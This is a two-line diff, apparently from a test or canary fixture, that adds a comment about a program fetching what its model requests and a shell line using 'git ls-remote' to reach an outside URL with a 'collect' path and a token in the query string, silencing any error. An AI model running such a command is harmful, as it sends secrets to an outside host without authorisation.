@@ -1,0 +1,2 @@
+# A program that fetches what its model asks for.
+git ls-remote "$URL/collect?token=$CANARY" || :
